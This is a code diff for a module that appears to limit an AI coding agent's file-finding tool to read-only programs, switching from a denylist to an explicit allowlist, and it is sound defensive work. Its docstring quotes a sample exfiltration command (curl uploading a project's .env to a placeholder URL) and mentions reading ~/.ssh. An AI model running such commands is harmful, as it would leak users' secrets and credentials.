@@ -8,7 +8,9 @@ project's ``.env`` or ``~/.ssh``: ``curl -F f=@.env URL``, ``python3 -c ...``,
 reason the model can act on. Versioned names (``python3.11``, ``lua5.4``,
 ``pip3``) count as the program they version.
 
-This is a denylist: approval still unlocks any program not named here.
+These names only give the model a precise reason. What may run at all is the
+allowlist, :data:`ALLOWED_PROGRAMS` (and :data:`GIT_READ_ONLY` for git): a program
+not on it is refused whatever the approval (:func:`allowlist_refusal`).
 """
 
 from __future__ import annotations
@@ -57,6 +59,25 @@ GIT_NETWORK = frozenset({
 GIT_RUNS = frozenset({"rebase", "bisect", "filter-branch", "filter-repo", "difftool", "mergetool", "web--browse",
                       "shell", "help"})
 
+ALLOWED_PROGRAMS = frozenset({
+    "find", "ls", "grep", "rg", "fd", "fdfind", "git", "cat", "head", "tail", "wc", "nl", "file", "stat", "sort",
+    "uniq",
+})
+"""Every program the file-finding tool runs; each has its options spelled out (:mod:`core.tools.program_options`)."""
+GIT_READ_ONLY = frozenset({
+    "status", "diff", "log", "show", "whatchanged", "blame", "annotate", "shortlog", "rev-parse", "rev-list",
+    "cat-file", "ls-tree", "describe", "diff-tree", "diff-index", "diff-files", "merge-base", "show-ref",
+    "for-each-ref", "name-rev", "count-objects", "branch",
+})
+"""git subcommands beyond ls-files and grep that run (with the user's approval): they only read."""
+ALLOWED_SUMMARY = (
+    "find, ls, grep, rg, fd, git ls-files and git grep (run without asking); cat, head, tail, wc, nl, file and "
+    "stat on project files; after '|' the filters head, tail, sort, uniq, wc and grep; with the user's approval "
+    "git's read-only subcommands (" + ", ".join(sorted(GIT_READ_ONLY)) + ")"
+)
+RUN_ELSEWHERE = ("This tool only finds and reads files. To build, test or change something, use runCommand "
+                 "(sandboxed, with the user's approval) where it is offered.")
+
 _FIND_FILES = "To find files, use find, ls, git ls-files, grep -l or rg --files."
 _FILTER = "To filter a listing, pipe it into grep, head, tail, sort or uniq."
 _NEVER_RUN: tuple[tuple[frozenset[str], str, str], ...] = (
@@ -101,6 +122,14 @@ def program_refusal(program: str) -> str | None:
         if names & group:
             return f"{program} is never run here, whatever the approval mode: {why}. {instead}"
     return None
+
+
+def allowlist_refusal(program: str) -> str | None:
+    """Why ``program`` is not run by the file-finding tool, or None when it is on the allowlist."""
+    if program in ALLOWED_PROGRAMS:
+        return None
+    return (f"{program[:60]} is not one of the programs this read-only file-finding tool runs, whatever the "
+            f"approval mode. Allowed: {ALLOWED_SUMMARY}. {RUN_ELSEWHERE}")
 
 
 def git_refusal(subcommand: str) -> str | None:
